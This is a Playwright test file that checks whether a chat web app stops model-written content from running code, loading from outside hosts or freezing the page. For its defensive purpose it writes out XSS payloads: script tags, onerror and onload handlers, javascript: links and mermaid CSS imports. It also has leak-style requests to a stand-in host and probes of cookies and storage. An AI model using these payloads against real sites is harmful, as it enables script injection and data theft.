"""What a model writes cannot run, load or call home, and nothing that it writes stops the page."""

from __future__ import annotations

import re

from people import answer, ask, choose_model, finished, register
from playwright.sync_api import Page, expect
from test_chat_screen import settings_of, sideways

ELSEWHERE = "http://elsewhere.example"
HOSTILE = f"""# Hostile

<script>document.title = "ran"</script>
<img src=x onerror="document.title = 'ran'">
<svg onload="document.title = 'ran'"></svg>

[x](javascript:document.title='ran')
![leak]({ELSEWHERE}/leak.png?q=secret)
<img src="{ELSEWHERE}/raw.png">

```mermaid
flowchart LR
  A["<img src='{ELSEWHERE}/a.png' onerror='document.title=1'>"] --> B
  click B "javascript:document.title='ran'"
```

```mermaid
%%{{init: {{"themeCSS": "@import '{ELSEWHERE}/b.css'; * {{ fill: url({ELSEWHERE}/b.svg) }}"}}}}%%
flowchart LR
  A --> B
  click A call steal()
```

```mermaid
flowchart LR
  A@{{ img: "{ELSEWHERE}/c.png", label: "x" }}
```

```html
<p id="said">nothing</p>
<script>
const said = [];
const tried = (name, run) => {{
  try {{ run(); said.push(name + " open"); }} catch {{ said.push(name + " shut"); }}
}};
tried("parent", () => parent.document.title = "ran");
tried("cookie", () => document.cookie);
tried("storage", () => localStorage.length);
fetch("{ELSEWHERE}/d").then(() => "open", () => "shut").then((how) => {{
  said.push("network " + how);
  document.getElementById("said").textContent = said.join(", ");
}});
</script>
<img src="{ELSEWHERE}/e.png"><link rel="stylesheet" href="{ELSEWHERE}/f.css">
<iframe src="{ELSEWHERE}/g"></iframe>
```
"""
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154"
    "789c6360606060000000050001a5f645400000000049454e44ae426082"
)


def test_nothing_runs_or_loads_that_was_written(serve, visit, provider):
    server = serve(**settings_of(provider))
    page = visit(f"{server.url}/register")
    asked: list[str] = []
    page.context.route(
        f"{ELSEWHERE}/**", lambda route: (asked.append(route.request.url), pixel(route))
    )
    register(page)
    choose_model(page, "compatible/echo")
    ask(page, HOSTILE)
    last = finished(page)
    for figure in last.locator("figure").all():
        figure.scroll_into_view_if_needed()
        page.wait_for_timeout(500)
    expect(last.locator(".text-diagram svg").first).to_be_attached()
    assert (
        last.locator(".text-diagram :is(script, image, img, [onclick], [href^=javascript])").count()
        == 0
    )
    last.get_by_role("button", name="Preview").click()
    frame = last.frame_locator("iframe.text-trial")
    expect(frame.locator("#said")).to_have_text(
        "parent shut, cookie shut, storage shut, network shut"
    )
    frame.locator("#said").evaluate("() => { location.href = 'http://elsewhere.example/h' }")
    page.wait_for_timeout(500)
    assert asked == []
    assert "ran" not in page.title()

    # Whoever could write into the page itself could still not run or load anything.
    held = page.evaluate(
        """async (elsewhere) => {
            const held = [];
            document.addEventListener("securitypolicyviolation", (event) => {
                held.push(event.effectiveDirective);
            });
            const put = (tag, values) =>
                document.body.append(Object.assign(document.createElement(tag), values));
            put("img", { src: elsewhere + "/i.png" });
            put("script", { textContent: "document.title = 'ran'" });
            put("script", { src: elsewhere + "/j.js" });
            put("iframe", { src: elsewhere + "/k" });
            const handler = "<img src=x onerror='document.title=`ran`'>";
            document.body.insertAdjacentHTML("beforeend", handler);
            await fetch(elsewhere + "/l").catch(() => {});
            await new Promise((done) => setTimeout(done, 500));
            return held;
        }""",
        ELSEWHERE,
    )
    assert {"img-src", "script-src-elem", "script-src-attr", "frame-src", "connect-src"} <= set(
        held
    )
    assert asked == []
    assert "ran" not in page.title()

    # A click shows the one image, in a frame of its own.
    last.get_by_role("button", name="leak Show image from elsewhere.example").click()
    image = last.frame_locator("iframe[title=leak]").get_by_role("img", name="leak")
    expect(image).to_be_visible()
    assert asked == [f"{ELSEWHERE}/leak.png?q=secret"]


def pixel(route) -> None:
    route.fulfill(
        body=PIXEL, content_type="image/png", headers={"access-control-allow-origin": "*"}
    )


def test_our_own_pages_keep_to_their_policy(serve, visit, provider):
    server = serve(**settings_of(provider))
    page = visit("about:blank")
    told: list[str] = []
    page.on("console", lambda said: told.append(said.text))
    page.goto(server.url)
    page.get_by_role("link", name="Create account").click()
    register(page)
    choose_model(page, "compatible/0x80")
    ask(page, "Everything")
    finished(page)
    page.wait_for_timeout(500)
    page.reload()
    finished(page)
    page.get_by_role("button", name="Parameters").click()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Account menu").click()
    page.get_by_role("menuitem", name="Dark").click()
    choose_model(page, "compatible/echo")
    ask(page, '```mermaid\nsequenceDiagram\n  A->>B: Hello\n```\n\n```mermaid\npie\n  "x" : 3\n```')
    expect(finished(page).locator(".text-diagram svg")).to_have_count(2)
    page.get_by_role("button", name="New chat").click()
    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
    page.get_by_role("button", name="Account menu").click()
    page.get_by_role("menuitem", name="Sign out").click()
    expect(page).to_have_url(re.compile("/login"))
    assert [said for said in told if "Content Security Policy" in said] == []
    for path in ("/", "/login", "/chat", "/chat/nobodys", "/nowhere"):
        policy = page.request.get(server.url + path).headers["content-security-policy"]
        assert "script-src 'self' 'sha256-" in policy, path


def put(page: Page, text: str) -> None:
    """Send a long text. Typing it would take Chromium minutes."""
    box = page.get_by_role("textbox", name="Message")
    box.evaluate(
        "(box, text) => { box.value = text;"
        " box.dispatchEvent(new Event('input', { bubbles: true })) }",
        text,
    )
    page.get_by_role("button", name="Send").click()
    expect(page.locator("article[data-role=user]").last).to_be_attached()


def test_no_text_stops_the_page(serve, visit, provider):
    server = serve(**settings_of(provider))
    page = visit(f"{server.url}/register")
    register(page)
    choose_model(page, "compatible/echo")

    put(page, "> " * 3000 + "deep")
    expect(finished(page)).to_contain_text("could not be laid out")
    usable(page)
    put(page, "<div>" * 5000 + "deep")
    finished(page)
    usable(page)
    put(page, "\n".join("  " * depth + "- x" for depth in range(100)))
    finished(page)
    usable(page)
    put(
        page,
        "\u202eturned\u202c \x07\x1b[31m "
        + "Z"
        + "\u0301\u0302" * 400
        + "\n\nשלום עולם, this is mixed.",
    )
    finished(page)
    usable(page)
    height = answer(page).bounding_box()["height"]
    assert height < 400, "marks without end stay within their message"

    page.get_by_role("button", name="New chat").click()
    expect(page.locator("article")).to_have_count(0)
    choose_model(page, "compatible/echo40")
    put(page, "| a | b |\n| - | - |\n" + "| one | two |\n" * 248)
    last = finished(page)
    expect(last.locator("tr")).to_have_count(301)
    expect(last).to_contain_text("rows more are not drawn yet.")
    last.get_by_role("button", name="Show more").click()
    expect(last.locator("tr")).to_have_count(601)
    usable(page)

    page.get_by_role("button", name="New chat").click()
    expect(page.locator("article")).to_have_count(0)
    put(page, "Some **words** and `code`, a whole paragraph of them.\n\n" * 460)  # 1 MB, 40 times
    expect(finished(page)).to_contain_text("characters more are not drawn yet.")
    usable(page)
    page.reload()
    expect(answer(page)).to_contain_text("characters more are not drawn yet.", timeout=30_000)
    usable(page)


def usable(page: Page) -> None:
    """Something can be typed, and is there within a second."""
    page.wait_for_timeout(300)
    box = page.get_by_role("textbox", name="Message")
    box.fill("still here", timeout=5000)
    waited = page.evaluate(
        "() => { const begun = performance.now();"
        " return new Promise((done) => setTimeout(() => done(performance.now() - begun), 0)) }"
    )
    assert waited < 1000
    box.fill("")
    assert not sideways(page)
